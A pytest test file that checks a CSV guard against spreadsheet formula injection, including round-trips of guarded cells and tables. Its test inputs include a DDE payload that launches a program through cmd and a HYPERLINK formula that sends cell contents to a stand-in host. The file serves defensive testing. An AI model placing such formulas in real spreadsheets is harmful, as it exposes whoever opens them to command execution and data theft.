"""No cell of a CSV that we write is taken for a formula, and reading gives back what was written."""

import csv
import json
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

import corpus
from corpus.spreadsheets import guard, guard_table, unguard, unguard_table

FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://x.example/?"&A1)',
    "+1-1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
)


@pytest.mark.parametrize("text", FORMULAS)
def test_formulas_are_no_formulas(text: str) -> None:
    assert guard(text) == f"'{text}"
    assert unguard(guard(text)) == text


@given(st.text(alphabet="'=+-@\t\rab ", max_size=8))
def test_what_is_read_is_what_was_written(text: str) -> None:
    assert unguard(guard(text)) == text
    assert guard(text)[:1] not in set("=+-@\t\r")


@pytest.mark.parametrize("text", ["", "It's", "'quoted'", "5-3", "a=b", "–", "−3"])
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert guard(text) == unguard(text) == text


def test_tables_keep_their_numbers_and_gaps() -> None:
    table = pd.DataFrame({"=a": ["=x", None, "y"], "n": [-1.5, 2.0, None]})
    guarded = guard_table(table)
    assert guarded.columns.tolist() == ["'=a", "n"]
    assert guarded["'=a"].tolist()[0] == "'=x"
    assert guarded["n"].equals(table["n"])
    assert unguard_table(guarded).equals(table)


def test_articles_and_ledger_written_as_csv_hold_no_formula_and_come_back(tmp_path: Path) -> None:
    rows = [
        {
            "id": f"{text} {n}",
            "text": f"{text} says the council.",
            "title": text,
            "source": text,
            "=note": text,
        }
        for n, text in enumerate(FORMULAS)
    ]
    rows += [{"id": "=twice", "text": "=one"}, {"id": "=twice", "text": "=two"}]
    (tmp_path / "a.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows), "utf-8")
    out, dropped = tmp_path / "out.csv", tmp_path / "dropped.csv"
    corpus.read_to(tmp_path / "a.jsonl", out, dropped=dropped)
    for path in (out, dropped):
        with path.open(encoding="utf-8", newline="") as stream:
            cells = [cell for row in csv.reader(stream) for cell in row]
        assert cells
        assert not [cell for cell in cells if cell[:1] in set("=+-@\t\r＝") and cell]
    # A carriage return is a line end in a CSV.
    first, again = corpus.read(tmp_path / "a.jsonl").articles, corpus.read(out).articles
    for column in ("article_id", "text", "title", "source", "=note"):
        written = [cell.replace("\r", "\n") for cell in first[column].fillna("")]
        assert again[column].fillna("").tolist() == written, column
